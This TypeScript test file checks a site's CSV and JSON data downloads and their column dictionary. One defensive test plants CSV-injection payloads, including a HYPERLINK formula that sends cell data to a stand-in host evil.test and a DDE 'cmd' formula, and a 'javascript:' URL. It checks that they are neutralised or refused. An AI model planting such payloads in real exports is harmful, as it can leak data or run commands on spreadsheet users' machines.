/**
 * The data downloads and their dictionary (src/site/tables.ts,
 * src/site/schema-docs.ts): flattening, resolved names and URLs, CSV/JSON
 * agreement, a meaning from the schemas' descriptions for every column, and
 * the JSON Schema of each JSON download, checked against the real rows.
 */
import { Ajv2020 } from 'ajv/dist/2020.js';
import { z } from 'astro/zod';
import { describe, expect, it } from 'vitest';
import { readDataset } from '../../src/site/read-dataset.ts';
import { docBlocks, schemaDocs } from '../../src/site/schema-docs.ts';
import { buildTable, describeColumns, dictionaryDocs as docs, tableFile, tableJsonSchema, tables, tableNames } from '../../src/site/tables.ts';
import { PROJECT_ROOT } from './site.ts';

const data = readDataset(PROJECT_ROOT);

describe('schemaDocs', () => {
  const idSchema = z.string().meta({ description: 'Kebab-case id.' });
  const thing = z
    .object({
      name: z.string().meta({ description: 'Name as reported.' }),
      undocumented: z.string(),
      tally: z
        .object({
          count: z.number().meta({ description: 'The number.' }),
          'quoted-key': z.string(),
        })
        .nullable()
        .default(null)
        .meta({ description: 'A nested value.' }),
      id: idSchema,
    })
    .superRefine(() => {});

  it('reads the descriptions of schemas, fields and nested fields, through nullable, default and refinements', () => {
    expect(schemaDocs({ idSchema, thing })).toEqual({
      idSchema: 'Kebab-case id.',
      'thing.name': 'Name as reported.',
      'thing.tally': 'A nested value.',
      'thing.tally.count': 'The number.',
      'thing.id': 'Kebab-case id.',
    });
  });

  it('splits "- item" lines from the prose', () => {
    expect(docBlocks('Cohort: when.\n- a: first\n- b: second')).toEqual({ text: 'Cohort: when.', items: ['a: first', 'b: second'] });
    expect(docBlocks('A nested value,\non two lines.')).toEqual({ text: 'A nested value, on two lines.', items: [] });
  });

  it('refuses a key described twice', () => {
    expect(() => schemaDocs({ idSchema, 'thing.name': idSchema, thing })).toThrow('"thing.name" is described twice');
  });

  it('finds the real schemas', () => {
    expect(docs['departureSchema.reported']).toBe('When the departure was first reported (partial-date syntax).');
    expect(docs['eventSchema.tally.count']).toBe('The number as reported.');
    expect(docblocksOf('cohortSchema').items).toContain('summer-2025: recruited June to September 2025 (the wave)');
  });
});

function docblocksOf(key: string) {
  return docBlocks(docs[key]!);
}

describe('the JSON Schema downloads', () => {
  const ajv = new Ajv2020({ allErrors: true, strict: true });

  it.each(tableNames)('/data/%s.schema.json accepts every row of the JSON download', (name) => {
    const validate = ajv.compile(tableJsonSchema(name));
    const rows = JSON.parse(tableFile(name, 'json', data));
    const ok = validate(rows);
    expect(validate.errors ?? [], JSON.stringify(validate.errors?.slice(0, 3))).toEqual([]);
    expect(ok).toBe(true);
  });

  it.each(tableNames)('/data/%s.schema.json refuses a row with a wrong type, an unknown column or a value outside an enum', (name) => {
    const validate = ajv.compile(tableJsonSchema(name));
    const [row] = JSON.parse(tableFile(name, 'json', data));
    expect(validate([{ ...row, id: 7 }])).toBe(false);
    expect(validate([{ ...row, extra: 'x' }])).toBe(false);
    expect(validate([{ ...row, verification: 'rumour' }])).toBe(false);
    expect(validate([{ ...row, sources: 'one' }])).toBe(false);
  });

  it('describes every column with the dictionary\'s meaning', () => {
    const schema = tableJsonSchema('people') as { items: { properties: Record<string, { description?: string }> } };
    const properties = schema.items.properties;
    expect(Object.keys(properties)).toEqual(tables.people.columns.map((c) => c.name));
    expect(properties.hire_reported!.description).toBe(docs['personSchema.hireReported']);
    expect(Object.values(properties).every((p) => (p.description ?? '').length > 0)).toBe(true);
  });
});

describe('the column dictionary', () => {
  it.each(tableNames)('explains every %s column from the schemas', (name) => {
    const described = name === 'people' ? describeColumns(tables.people, docs) : describeColumns(tables.events, docs);
    expect(described.map((c) => c.name)).toEqual(tables[name].columns.map((c) => c.name));
    for (const c of described) expect(c.meaning.join(' ').length, c.name).toBeGreaterThan(10);
  });

  it('names the missing doc when a column points at nothing', () => {
    const spec = { ...tables.events, columns: [{ name: 'x', docs: ['eventSchema.nope'], get: () => null }] };
    expect(() => describeColumns(spec, docs)).toThrow('column "events.x" points at "eventSchema.nope", which has no description in src/domain/schemas');
  });

  it('uses snake_case column names, each once', () => {
    for (const name of tableNames) {
      const names = tables[name].columns.map((c) => c.name);
      expect(new Set(names).size).toBe(names.length);
      for (const n of names) expect(n).toMatch(/^[a-z]+(_[a-z]+)*$/);
    }
  });
});

describe('buildTable', () => {
  const people = buildTable(tables.people, data);
  const events = buildTable(tables.events, data);
  const person = (id: string) => people.rows.find((r) => r['id'] === id)!;

  it('has one row per entry, sorted by id', () => {
    expect(people.rows).toHaveLength(data.people.length);
    expect(events.rows).toHaveLength(data.events.length);
    const ids = people.rows.map((r) => r['id'] as string);
    expect(ids).toEqual([...ids].sort());
  });

  it('flattens the departure and resolves names and source URLs', () => {
    const withDeparture = data.people.find((p) => p.departure?.destination);
    expect(withDeparture, 'the dataset has a departure with a destination').toBeDefined();
    const row = person(withDeparture!.id);
    const org = data.organisations.find((o) => o.id === withDeparture!.departure!.destination)!;
    expect(row).toMatchObject({
      departure_reported: withDeparture!.departure!.reported,
      departure_left: withDeparture!.departure!.left,
      departure_destination: org.id,
      departure_destination_name: org.name,
    });
    expect(row['source_urls']).toEqual(withDeparture!.sources.map((id) => data.sources.find((s) => s.id === id)!.url));
  });

  it('leaves departure columns null for someone who stayed', () => {
    const stayed = data.people.find((p) => p.departure === null)!;
    expect(person(stayed.id)).toMatchObject({
      departure_reported: null,
      departure_left: null,
      departure_destination: null,
      departure_destination_name: null,
      departure_destination_note: null,
      departure_destination_note_en: null,
    });
  });

  it('writes a text readers see in both languages, Indonesian in <name> and English in <name>_en', () => {
    const verma = data.people.find((p) => p.id === 'avi-verma')!;
    expect(person('avi-verma')).toMatchObject({
      previous_role: verma.previousRole.id,
      previous_role_en: verma.previousRole.en,
      departure_destination_note: 'kembali ke OpenAI',
      departure_destination_note_en: 'returned to OpenAI',
    });
    expect(person('chi-hao-wu')).toMatchObject({ previous_role: 'Spesialis AI/ML, lebih dari 5 tahun', previous_role_en: 'AI/ML specialist, 5+ years' });
    const event = events.rows.find((r) => r['notes_en'] !== null)!;
    expect(event['notes']).not.toBe(event['notes_en']);
    expect(event['notes']).toEqual(expect.any(String));
  });

  it('says in the dictionary which language each of the two columns holds', () => {
    const described = describeColumns(tables.people, docs);
    expect(described.find((c) => c.name === 'previous_role')!.meaning).toEqual([
      'In Indonesian; the same text in English is in previous_role_en.',
      'Previous role, as reported.',
    ]);
    expect(described.find((c) => c.name === 'previous_role_en')!.meaning[0]).toBe('In English; the same text in Indonesian is in previous_role.');
  });

  it('resolves the people of an event to names, in order', () => {
    const event = data.events.find((e) => e.people.length > 1)!;
    const row = events.rows.find((r) => r['id'] === event.id)!;
    expect(row['people_names']).toEqual(event.people.map((id) => data.people.find((p) => p.id === id)!.name));
  });
});

/** A small RFC 4180 reader, to read the CSV back. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') (field += '"'), i++;
      else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') row.push(field), (field = '');
    else if (c === '\r' && text[i + 1] === '\n') row.push(field), rows.push(row), (row = []), (field = ''), i++;
    else field += c;
  }
  if (field !== '' || row.length > 0) throw new Error('CSV does not end with CRLF');
  return rows;
}

describe('tableFile', () => {
  it.each(tableNames)('writes %s as CSV and JSON with the same rows and columns', (name) => {
    const csv = parseCsv(tableFile(name, 'csv', data));
    const json = JSON.parse(tableFile(name, 'json', data)) as Record<string, unknown>[];
    const [header, ...rows] = csv;
    expect(header).toEqual(tables[name].columns.map((c) => c.name));
    expect(rows).toHaveLength(json.length);
    rows.forEach((row, i) => {
      expect(Object.keys(json[i]!)).toEqual(header);
      header!.forEach((col, j) => {
        const v = json[i]![col];
        const text = v === null ? '' : Array.isArray(v) ? v.join('; ') : String(v);
        const expected = typeof v !== 'number' && /^[=+\-@\t\r]/.test(text) ? `'${text}` : text;
        expect(row[j], `${name}.csv row ${i + 1} column ${col}`).toBe(expected);
      });
    });
  });

  // OWASP CSV injection, on both files: text an editor typed that a spreadsheet would run as a formula.
  const formulas = ['=HYPERLINK("https://evil.test/?"&A1,"Klik")', '+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1'];
  it.each([
    ['people', 'notes', (d: typeof data, text: string) => ({ ...d, people: d.people.map((p, i) => (i === 0 ? { ...p, notes: { id: text, en: text } } : p)) })],
    ['events', 'summary', (d: typeof data, text: string) => ({ ...d, events: d.events.map((e, i) => (i === 0 ? { ...e, summary: text } : e)) })],
  ] as const)('neutralises formulas in %s.csv (column %s) and keeps the JSON exact', (name, column, plant) => {
    for (const text of formulas) {
      const hostile = plant(data, text);
      const [header, ...rows] = parseCsv(tableFile(name, 'csv', hostile));
      const cells = rows.map((r) => r[header!.indexOf(column)]!);
      expect(cells).toContain(`'${text}`);
      expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c)), `${name}.csv cells a spreadsheet would run`).toEqual([]);
      const json = JSON.parse(tableFile(name, 'json', hostile)) as Record<string, unknown>[];
      expect(json.map((r) => r[column])).toContain(text);
    }
  });

  it('refuses to write a source URL that is not http(s), should one slip past the schema', () => {
    const used = data.people[0]!.sources[0]!;
    const hostile = { ...data, sources: data.sources.map((s) => (s.id === used ? { ...s, url: 'javascript:alert(1)' } : s)) };
    for (const format of ['csv', 'json'] as const) expect(() => tableFile('people', format, hostile)).toThrow(`${used}: javascript:alert(1)`);
  });

  it('keeps every source URL in the CSV, so ids are never the only pointer', () => {
    const [header, ...rows] = parseCsv(tableFile('people', 'csv', data));
    const urls = header!.indexOf('source_urls');
    const ids = header!.indexOf('sources');
    for (const row of rows) {
      expect(row[urls]!.split('; ')).toHaveLength(row[ids]!.split('; ').length);
      for (const url of row[urls]!.split('; ')) expect(url).toMatch(/^https?:\/\//);
    }
  });
});
